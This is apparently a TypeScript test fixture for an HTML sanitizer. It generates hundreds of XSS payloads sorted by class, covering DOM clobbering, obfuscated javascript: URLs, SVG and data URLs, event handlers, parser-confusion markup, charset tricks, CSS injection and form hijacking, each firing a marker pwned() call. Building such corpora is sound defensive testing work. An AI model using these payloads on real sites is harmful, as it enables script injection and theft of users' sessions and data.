// Attacks made by class: each class is a weakness of those who take text for markup, spelled out over all it can be tried
// with. They add to those written one by one, and like them call pwned() where they work.

const bad = '<img src=x onerror=pwned()>'

/** Properties of forms, documents and nodes that a named element takes the place of. */
const clobbering = [
  ...['attributes', 'childNodes', 'nodeName', 'parentNode', 'removeAttribute', 'insertBefore', 'ownerDocument'].map(
    (name) => `<form onpointerover=pwned()><input name=${name} onfocus=pwned() autofocus></form>`,
  ),
  ...['body', 'head', 'cookie', 'forms', 'createTextNode', 'querySelector', 'implementation', 'currentScript'].map(
    (name) => `<img name=${name} src=x onerror=pwned()><embed name=${name}>`,
  ),
  ...['location', 'history', 'fetch', 'name', 'self', 'top'].map(
    (name) => `<a id=${name}></a><a id=${name} name=href href="javascript:pwned()">x</a>`,
  ),
  '<form id=api><output name=method>pwned()</output></form>',
  '<iframe name=frames srcdoc="<a id=alert href=javascript:parent.pwned()>"></iframe>',
]

/** What browsers have skipped before and within the name of a scheme. */
const skipped = [
  ...[
    '&#9;',
    '&#10;',
    '&#13;',
    '&#x1;',
    '&#x1f;',
    '&Tab;',
    '&NewLine;',
    '\u00a0',
    '\u1680',
    '\u2003',
    '\u3000',
    '\ufeff',
  ].map((blank) => `<a href="${blank}javascript:pwned()">x</a>`),
  ...['&#9;', '&#10;', '&#0;', '&colon;', '\u00ad', '\u200d'].map(
    (within) => `<a href="java${within}script:pwned()">x</a>`,
  ),
  '<a href="javascript&colon;pwned&lpar;&rpar;">x</a>',
  '<a href="//nowhere.example" ping="javascript:pwned()">x</a>',
]

const base64 = Buffer.from('<script>parent.pwned()</script>').toString('base64')
const drawing = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned()'/%3E"

/** Attributes that name what is to be loaded, with data that runs where it is. */
const addresses = [
  ...['iframe src', 'embed src', 'object data', 'frame src', 'portal src', 'input type=image src', 'video poster'].map(
    (place) => `<${place}="data:text/html;base64,${base64}">`,
  ),
  ...['img src', 'image href', 'body background', 'table background', 'link rel=icon href', 'track src', 'q cite'].map(
    (place) => `<${place}="${drawing}" onload=pwned()>`,
  ),
  `<img srcset="${drawing} 1x, x 2x" onerror=pwned()>`,
  `<picture><source srcset="${drawing}"><img onload=pwned()></picture>`,
  '<iframe src="view-source:javascript:pwned()"></iframe>',
  '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<applet code="javascript:pwned()"></applet>',
]

const HANDLERS =
  'abort beforecopy beforeinput blur change click contextmenu cut dragstart drop error focusout input invalid keydown load loadstart mousedown mouseover paste pointermove popstate readystatechange reset resize scroll select submit toggle transitionend unload wheel'

/** Every way to be told of something. */
const handlers = HANDLERS.split(' ').map(
  (event, i) =>
    [
      `<section on${event}=pwned() tabindex=0 contenteditable>x</section>`,
      `<section ON${event.toUpperCase()} = 'pwned()'>x</section>`,
      `<x-y/on${event}="pwned()"//>x`,
      `<section a="b"on${event}=pwned&#40;&#41; c>x</section>`,
    ].at(i % 4)!,
)

/** Elements whose inside a parser reads as text, as markup, or by whom it stands in: read one way once and another way later. */
const RAW = ['style', 'title', 'textarea', 'xmp', 'noembed', 'noframes', 'noscript', 'iframe', 'plaintext', 'listing']
const confusions = [
  ...RAW.map((raw) => `<svg></p><${raw}><desc id="</${raw}>${bad}">`),
  ...RAW.map((raw) => `<math><mi><${raw}><!--</${raw}>${bad}--></mi></math>`),
  ...RAW.slice(0, 6).map((raw) => `<${raw}><p class='</${raw}>${bad}'>`),
  ...['select', 'option', 'table', 'button', 'dl', 'frameset', 'colgroup'].map(
    (outer) => `<${outer}><template><${outer}><style></${outer}>${bad}</style></template>`,
  ),
  `<math><annotation-xml encoding="application/xhtml+xml"><style><i title="</style>${bad}">`,
  `<svg><foreignObject><math><mglyph><style>${bad}</style></mglyph></math></foreignObject></svg>`,
  `<svg><made-up><desc><style>&lt;a title="&lt;/style>&lt;img src=x onerror=pwned()>">`,
  `<table><td><svg><desc><td>${bad}`,
  `<listing>&lt;img src=x onerror=pwned()&gt;</listing>`,
  `<b is="made-up" onclick=pwned()>x</b>`,
]

/** Comments, declarations and instructions that end earlier than they seem to. */
const declarations = [
  `<!-- ${bad} --!>${bad}`,
  `<!--[if gte IE 4]>${bad}<![endif]-->`,
  `<! x="><script>pwned()</script>">`,
  `<? x="><script>pwned()</script>">`,
  `</ x="><script>pwned()</script>">`,
  `<% x><i title="%><script>pwned()</script>">`,
  `<![><img alt="]>${bad}">`,
  `<svg><![CDATA[><i title="]]>${bad}"></svg>`,
  '<!DOCTYPE x [<!ENTITY run "<script>pwned()</script>">]><x>&run;</x>',
  '<!DOCTYPE x [<!ATTLIST img src CDATA "x" onerror CDATA "pwned()">]><img/>',
  '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:,pwned()"?><x/>',
  `<comment><i title="</comment>${bad}">`,
  `<a title="\`"><i title="\`${bad}">`,
  `<i title=a\`b\`onclick=pwned()>x</i>`,
]

/** Bytes that another character set reads as markup. */
const charsets = [
  '<meta charset=utf-7>+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  '<meta charset=x-mac-farsi>\u00bcscript\u00bepwned()\u00bc/script\u00be',
  '<meta http-equiv=content-type content="text/html;charset=iso-2022-jp">\u001b(J<img alt="\u001b$B"><i title="onerror=pwned()">',
  '\uff1cscript\uff1epwned()\uff1c/script\uff1e',
  '<script\ufffd>pwned()</script>',
  '\u202e<script>pwned()</script>\u202c',
  '<\u0130mg src=x onerror=pwned()>',
]

/** Style that loads, runs or covers. */
const styles = [
  ...[
    'behavior:url(#x)',
    '-moz-binding:url(//nowhere.example/x.xml#x)',
    'width:expression(pwned())',
    'list-style:url(javascript:pwned())',
  ].map((rule) => `<i style="${rule}">pwned()</i>`),
  '<i style="x:\uff45\uff58\uff50\uff52\uff45\uff53\uff53\uff49\uff4f\uff4e(pwned())">x</i>',
  '<i style="font-family:a}*{background:url(//nowhere.example/pwned())">x</i>',
  '<style>*[{}@import"//nowhere.example/pwned()"]{color:red}</style>',
  '<style>@font-face{font-family:x;src:url(//nowhere.example/pwned())}*{font-family:x}</style>',
  '<style>input[value^=a]{background:url(//nowhere.example/pwned())}</style>',
  '<i style="position:fixed;inset:0;z-index:99999" onclick=pwned()>x</i>',
  '<svg><image style="filter:url(\'data:image/svg+xml,<svg onload=pwned()>\')"/></svg>',
  '<svg><rect style="fill:url(//nowhere.example/x.svg#x);mask:url(#pwned())"/></svg>',
]

/** Markup of other languages that browsers have known: timed, spoken, drawn, for telephones. */
const languages = [
  ...['onbegin', 'onend', 'onrepeat'].map(
    (when) => `<svg><animate ${when}=pwned() attributeName=x dur=1ms repeatCount=2 /></svg>`,
  ),
  '<svg><a><animate attributeName=href values="javascript:pwned()"/><text y=9>x</text></a></svg>',
  '<svg><set attributeName=onpointerover to=pwned() /></svg>',
  '<svg><image><set attributeName=href begin="accessKey(a)" to="//nowhere.example/pwned()"/></image></svg>',
  '<svg><feImage><set attributeName=href to="data:image/svg+xml,pwned()"/></feImage></svg>',
  '<svg id=x><listener event=load observer=x handler="#y"/><handler id=y>pwned()</handler></svg>',
  '<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load ev:handler="javascript:pwned()"/>',
  '<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:actuate=onLoad xlink:href="javascript:pwned()"/>',
  '<xml:namespace prefix=t><t:set attributeName=innerHTML to="<img src=x onerror=pwned()>">',
  '<v:frame xmlns:v="urn:x" src="javascript:pwned()" style="position:absolute"/>',
  '<card><onevent type=ontimer><go href="javascript:pwned()"/></onevent><timer value=1 /></card>',
  '<xsl:template match="/"><script>pwned()</script></xsl:template>',
  '<label datasrc="#x" datafld=pwned() dataformatas=html></label>',
  '<math><mtext xlink:type=simple xlink:href="javascript:pwned()">x</mtext></math>',
]

/** Forms that send elsewhere what somebody typed. */
const forms = [
  '<form id=x></form><button form=x formaction="javascript:pwned()">x</button>',
  '<input name=name dirname=pwned() formaction=//nowhere.example autofocus>',
  '<form action=//nowhere.example/pwned()><textarea name=x autofocus>',
  '<isindex action="javascript:pwned()" type=image>',
  '<input pattern="^((a+.)a)+$" value="aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!" onfocus=pwned() autofocus>',
  '<keygen autofocus onfocus=pwned()>',
  '<input accesskey=x onclick=pwned()>',
  "<a draggable=true ondragstart=\"event.dataTransfer.setData('text/html','<img src=x onerror=pwned()>')\">x</a>",
]

/** Scripts that change what others rest on. */
const scripts = [
  'Object.prototype.__defineSetter__("text",pwned)',
  'history.replaceState(0,0,"/pwned()")',
  'Array.prototype.map=pwned',
  'new Worker("data:,postMessage(1)").onmessage=()=>pwned()',
  'window.open("javascript:opener.pwned()")',
  'document.write(unescape("%3Cscript%3Epwned()%3C/script%3E"))',
  'navigator.serviceWorker.register("/pwned()")',
  'with(document)body.innerHTML+="<img src=x onerror=pwned()>"',
].map((script) => `<script>${script}</script>`)

export const attacksByClass: Readonly<Record<string, readonly string[]>> = {
  clobbering,
  skipped,
  addresses,
  handlers,
  confusions,
  declarations,
  charsets,
  styles,
  languages,
  forms,
  scripts,
}
